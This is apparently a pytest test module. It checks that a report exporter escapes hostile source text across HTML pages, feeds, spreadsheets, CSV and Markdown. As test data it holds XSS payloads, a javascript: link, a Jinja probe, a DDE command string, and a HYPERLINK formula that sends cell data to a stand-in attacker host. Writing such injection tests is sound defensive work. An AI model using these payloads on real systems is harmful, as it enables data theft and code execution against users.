"""What sources write is hostile: formulas, HTML and Markdown planted in it come out as text, everywhere."""

from __future__ import annotations

import csv
import json
from xml.etree import ElementTree as Xml

import openpyxl
import pytest

from pipelines.report.site import make_report
from tests.warehouse.conftest import World, claim
from warehouse.connection import open_read_only
from warehouse.export import export

SCRIPT = "<script>window.ran=1</script>"
IMAGE = "\"><img src=x onerror='window.ran=1'>"
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'
MARKDOWN = "[click](javascript:alert(1)) | ![x](http://evil.test/x.png) `code` <b>b</b>"
JINJA = "{{ 7 * 7 }}{% raw %}"
TEXTS = (SCRIPT, IMAGE, FORMULA, MARKDOWN, JINJA, "\u202e\x07]]>&#60;script>", "-1+1|cmd' /C calc'!A0")

DECLARED = """
name = "<script>window.ran=1</script>Mobile"
tier = "carrier"
country = "CN"
carriers = ["cn-mobile"]
[[source]]
name = "leaving"
title = "=1+1<script>window.ran=1</script>"
url = "http://mobile.test/leaving"
"""
PRESS = """
name = "Press"
tier = "news"
[[source]]
name = "all"
kind = "listing"
url = "http://press.test/"
country = "CN"
carriers = ["cn-mobile"]
"""
CODES = ("app", "store", "web", "phone", "chat", "email", "mini_program")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """An export with a report of pages that try everything, before and after a change."""
    world = World(tmp_path_factory.mktemp("hostile"))
    world.declare("cn-mobile", DECLARED)
    world.declare("news-press", PRESS)
    codes = CODES[: len(TEXTS)]
    for day, polarity, extra in (("2026-01-01", "available", ""), ("2026-02-01", "unavailable", " now")):
        claims = [
            claim(f"channel.{code} {polarity}", quote=text + extra) for code, text in zip(codes, TEXTS, strict=False)
        ]
        texts = {"contact.hotline": FORMULA, "contact.complaint": SCRIPT}
        claims += [claim(f"{code} stated {json.dumps(text)}", quote=text) for code, text in texts.items()]
        world.capture("cn-mobile/leaving", day, *claims, text=IMAGE, title=SCRIPT)
    world.capture("news-press/all", "2026-02-02", claim("channel.app available", quote=SCRIPT),
                  address="javascript:alert(document.domain)", published="2026-01-30", kind="news",
                  title=IMAGE, regions=["CN"], carriers=["cn-mobile"])  # fmt: skip
    warehouse = world.build("hostile").path
    with open_read_only(warehouse) as connection:
        assert connection.execute("SELECT count(*) FROM core.policy_changes").fetchone()[0] >= 5
    export(warehouse, world.root / "out", pages=make_report)
    return world.root / "out"


def test_no_page_of_the_report_holds_mark_up_of_a_source(hostile):
    pages = list(hostile.rglob("*.html"))
    assert len(pages) > 20
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script>" not in text and "<img" not in text, page
        assert 'href="javascript:' not in text, page
    cards = (hostile / "report/en/carriers/cn-mobile/CN.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.ran=1&lt;/script&gt;" in cards and "{{ 7 * 7 }}" in cards


def test_nothing_of_it_runs_in_a_browser(hostile, visiting):
    visit = visiting(hostile / "report")
    for path in ("zh/index.html", "en/matrix/CN.html", "en/carriers/cn-mobile/CN.html", "en/changes.html",
                 "en/coverage.html"):  # fmt: skip
        page = visit.open(path)
        assert page.evaluate("window.ran") is None
        assert page.locator("img, main script, main [onerror]").count() == 0


def test_feeds_are_well_formed_and_their_texts_are_text(hostile):
    feeds = list((hostile / "report/feeds").glob("*.xml"))
    assert {path.name for path in feeds} >= {"all.en.xml", "carrier-cn-mobile.zh.xml", "region-CN.en.xml"}
    atom = "{http://www.w3.org/2005/Atom}"
    for path in feeds:
        feed = Xml.parse(path).getroot()
        assert feed.tag == f"{atom}feed" and feed.find(f"{atom}updated").text
        for entry in feed.iter(f"{atom}entry"):
            assert all(len(part) == 0 for part in entry if part.tag != f"{atom}author")
            assert entry.find(f"{atom}content").get("type") == "text"
            assert entry.find(f"{atom}title").get("type") in (None, "text")
            assert entry.find(f"{atom}link").get("href").startswith("../")


def test_no_cell_of_a_spreadsheet_is_a_formula(hostile):
    for name in ("linewatch.en.xlsx", "linewatch.zh.xlsx"):
        book = openpyxl.load_workbook(hostile / name)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
        assert any(str(cell.value).startswith("'=HYPERLINK") for cell in cells)
    for path in hostile.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            values = [value for row in csv.reader(file) for value in row]
        numbers = [value for value in values if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert all(value.lstrip("-").replace(".", "", 1).isdigit() for value in numbers), path


def test_markdown_keeps_it_in_its_cell(hostile):
    for path in hostile.glob("*.md"):
        lines = [line for line in path.read_text(encoding="utf-8").splitlines() if line.startswith("|")]
        assert len({line.replace("\\|", "").count("|") for line in lines}) == 1, path
        text = "\n".join(lines)
        assert "<script" not in text and "](javascript" not in text.replace("\\]", "") and "<b>" not in text
